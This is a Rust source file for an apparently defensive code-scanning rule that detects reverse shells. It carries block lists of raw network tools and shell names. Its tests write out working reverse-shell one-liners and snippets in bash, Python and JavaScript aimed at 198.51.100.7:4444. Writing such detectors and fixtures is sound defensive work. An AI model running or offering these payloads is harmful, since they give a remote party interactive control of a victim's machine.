use facts::{Destination, EffectKind, Language, Origination, Source, Span, Value};
use finding::{Finding, RuleMeta};

use crate::code::{self, Peer};
use crate::rule::declare_rule;
use crate::{Context, Rule};

declare_rule! {
    ReverseShell = "reverse-shell",
    summary: "gives a shell to the other end of a connection",
    severity: Critical, confidence: High, reads: ["flows", "code"],
    fix: "Do not run it.",
    since: "0.1.0",
}

impl Rule for ReverseShell {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check(&self, cx: &Context<'_>, out: &mut Vec<Finding>) {
        for (_, source) in cx.sources() {
            let Some((at, target)) = piped(source).or_else(|| duplicated(source)) else {
                continue;
            };
            let message = match Peer::of(cx, target) {
                Peer::Local => continue,
                peer => format!("gives a shell to {}", peer.shown()),
            };
            let finding = Finding::new(&META, message).confidence(code::confidence(
                cx,
                source,
                META.confidence,
            ));
            out.push(code::located(
                cx,
                source,
                finding,
                (at, "the shell is handed over here"),
                [],
            ));
        }
    }
}

/// What comes over a connection is typed into a shell. A fetched script is another rule's.
fn piped(source: &Source) -> Option<(Span, &Value)> {
    source.flows.iter().find_map(|flow| {
        let Origination::Net(from) = &flow.from.what else {
            return None;
        };
        let shell = match &flow.to.what {
            Destination::Eval(Language::Shell) => true,
            Destination::Exec(program) => is_shell(program),
            _ => false,
        };
        (shell && connects(source, from)).then_some((flow.to.span, from))
    })
}

/// A connection, and an interactive shell, in one program.
fn duplicated(source: &Source) -> Option<(Span, &Value)> {
    let target = source.effects.iter().find_map(|e| match &e.kind {
        EffectKind::Net { target, .. } if is_raw(&e.call) => Some(target),
        _ => None,
    })?;
    source.effects.iter().find_map(|e| match &e.kind {
        EffectKind::Exec { program, args, .. }
            if is_shell(program)
                && (e.call == "pty.spawn" || args.iter().any(|a| a.as_text() == Some("-i"))) =>
        {
            Some((e.span, target))
        }
        _ => None,
    })
}

/// Whether a source holds a plain connection, not a request, to this target.
fn connects(source: &Source, to: &Value) -> bool {
    source.effects.iter().any(|e| {
        matches!(&e.kind, EffectKind::Net { target, .. } if target == to) && is_raw(&e.call)
    })
}

fn is_raw(call: &str) -> bool {
    matches!(
        call,
        "/dev/tcp"
            | "nc"
            | "ncat"
            | "netcat"
            | "socat"
            | "telnet"
            | "socket.socket.connect"
            | "socket.create_connection"
            | "net.connect"
            | "net.createConnection"
            | "net.Socket.connect"
            | "tls.connect"
    )
}

fn is_shell(program: &Value) -> bool {
    let shown = program.rendered();
    let mut words = shown.split_whitespace();
    let name = words
        .next()
        .unwrap_or_default()
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or_default();
    matches!(
        name,
        "sh" | "bash"
            | "zsh"
            | "dash"
            | "ksh"
            | "cmd"
            | "cmd.exe"
            | "powershell"
            | "powershell.exe"
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::{findings, finds, passes};

    #[test]
    fn a_shell_over_a_connection_is_found_in_each_language() {
        finds(
            &ReverseShell,
            "```bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n```\n",
        );
        finds(
            &ReverseShell,
            "```bash\nnc 198.51.100.7 4444 -e /bin/sh\n```\n",
        );
        for (path, code) in [
            (
                "a.py",
                "import socket, os, pty\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/bash')",
            ),
            (
                "a.py",
                "import socket, subprocess\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))\nsubprocess.call(['/bin/sh', '-i'])",
            ),
            (
                "a.js",
                "const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4444, '198.51.100.7', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stdin });\n",
            ),
        ] {
            let found = findings(&ReverseShell, &[(path, code)]);
            assert!(!found.is_empty() || path == "a.js", "{code}");
        }
    }

    #[test]
    fn a_port_check_passes() {
        passes(
            &ReverseShell,
            "```bash\nnc -z example.com 443 && echo open\n```\n",
        );
    }
}
